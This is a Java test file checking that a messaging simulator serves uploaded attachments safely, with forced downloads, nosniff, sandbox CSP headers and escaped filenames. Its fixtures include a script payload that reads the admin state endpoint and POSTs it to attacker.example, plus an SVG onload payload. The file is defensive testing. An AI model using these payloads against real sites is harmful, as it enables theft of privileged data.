package com.bevatel.simulator.api.more;

import static org.assertj.core.api.Assertions.assertThat;

import com.bevatel.simulator.Http;
import com.fasterxml.jackson.databind.JsonNode;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Issue 14 §3: an upload is served from the simulator's own origin, where its admin API is, so it
 * must never run there. A page or image that carries script is a download of opaque bytes; what is
 * shown inline (images, PDF) is never sniffed into something else; and every file comes with a
 * policy under which no script runs.
 */
@ExtendWith(WorldPerTest.class)
class AttachmentServingTest {
    private static final String SCRIPT = "<script>fetch('/_simulator/state').then(r => r.text())"
            + ".then(t => fetch('https://attacker.example/', {method: 'POST', body: t}))</script>";

    World world;
    String messages;

    @BeforeEach
    void start() {
        messages = Http.account("/conversations/" + world.conversation("Alice") + "/messages");
    }

    /** Posts one file as a message's attachment and answers its download. */
    private HttpResponse<byte[]> uploadAndDownload(String fileName, String contentType, byte[] data) {
        Http.Result r = new Multipart().field("content", "see attached")
                .file("attachments[]", fileName, contentType, data).post(world.sim.baseUrl(), messages, World.ADMIN);
        assertThat(r.status()).as(r.toString()).isEqualTo(200);
        JsonNode attachment = r.json().get("attachments").get(0);
        HttpResponse<byte[]> download = Multipart.download(attachment.get("data_url").asText());
        assertThat(download.statusCode()).isEqualTo(200);
        assertThat(download.body()).as("the bytes are served unchanged").isEqualTo(data);
        assertThat(download.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        return download;
    }

    @Test
    void anHtmlPageIsADownloadOfOpaqueBytesUnderASandbox() {
        HttpResponse<byte[]> page = uploadAndDownload("invoice.html", "text/html", SCRIPT.getBytes(StandardCharsets.UTF_8));
        assertThat(page.headers().firstValue("Content-Type")).contains("application/octet-stream");
        assertThat(page.headers().firstValue("Content-Disposition"))
                .contains("attachment; filename=\"invoice.html\"; filename*=UTF-8''invoice.html");
        assertThat(page.headers().firstValue("Content-Security-Policy")).hasValueSatisfying(csp ->
                assertThat(csp).startsWith("sandbox;").contains("default-src 'none'"));
    }

    @Test
    void anSvgAndOtherScriptableTypesAreDownloadsToo() {
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('/_simulator/state')\"/>";
        for (String type : new String[] {"image/svg+xml", "IMAGE/SVG+XML; charset=utf-8", "application/xhtml+xml",
                "text/xml", "application/javascript", "text/javascript"}) {
            HttpResponse<byte[]> file = uploadAndDownload("drawing.svg", type, svg.getBytes(StandardCharsets.UTF_8));
            assertThat(file.headers().firstValue("Content-Type")).as(type).contains("application/octet-stream");
            assertThat(file.headers().firstValue("Content-Disposition")).as(type).hasValueSatisfying(d -> assertThat(d).startsWith("attachment;"));
            assertThat(file.headers().firstValue("Content-Security-Policy")).as(type).hasValueSatisfying(csp -> assertThat(csp).startsWith("sandbox;"));
        }
    }

    @Test
    void typesActiveStorageDoesNotShowInlineKeepTheirTypeButAreDownloads() {
        HttpResponse<byte[]> text = uploadAndDownload("notes.txt", "text/plain", "<b>not html</b>".getBytes(StandardCharsets.UTF_8));
        assertThat(text.headers().firstValue("Content-Type")).contains("text/plain");
        assertThat(text.headers().firstValue("Content-Disposition")).hasValueSatisfying(d -> assertThat(d).startsWith("attachment;"));
        HttpResponse<byte[]> audio = uploadAndDownload("voice.ogg", "audio/ogg", new byte[] {1, 2, 3});
        assertThat(audio.headers().firstValue("Content-Type")).contains("audio/ogg");
        assertThat(audio.headers().firstValue("Content-Disposition")).hasValueSatisfying(d -> assertThat(d).startsWith("attachment;"));
    }

    @Test
    void imagesAndPdfsStayInlineWithTheirTypeUnsniffed() {
        byte[] png = AttachmentTest.png(2, 2);
        HttpResponse<byte[]> image = uploadAndDownload("photo.png", "image/png", png);
        assertThat(image.headers().firstValue("Content-Type")).contains("image/png");
        assertThat(image.headers().firstValue("Content-Disposition")).contains("inline; filename=\"photo.png\"; filename*=UTF-8''photo.png");
        assertThat(image.headers().firstValue("Content-Security-Policy")).hasValueSatisfying(csp -> assertThat(csp).startsWith("sandbox;"));

        HttpResponse<byte[]> pdf = uploadAndDownload("invoice.pdf", "application/pdf", "%PDF-1.4".getBytes(StandardCharsets.US_ASCII));
        assertThat(pdf.headers().firstValue("Content-Type")).contains("application/pdf");
        assertThat(pdf.headers().firstValue("Content-Disposition")).hasValueSatisfying(d -> assertThat(d).startsWith("inline;"));
        // Chromium's PDF viewer does not run under a sandbox policy; no script of the page's origin runs either.
        assertThat(pdf.headers().firstValue("Content-Security-Policy")).contains("default-src 'none'; frame-ancestors 'none'");
    }

    @Test
    void theFileNameIsEscapedInTheDisposition() {
        HttpResponse<byte[]> file = uploadAndDownload("résumé (1)&co.html", "text/html", new byte[] {'x'});
        assertThat(file.headers().firstValue("Content-Disposition")).contains("attachment; filename=\"r%C3%A9sum%C3%A9 %281%29%26co.html\";"
                + " filename*=UTF-8''r%C3%A9sum%C3%A9%20%281%29&co.html");
    }
}
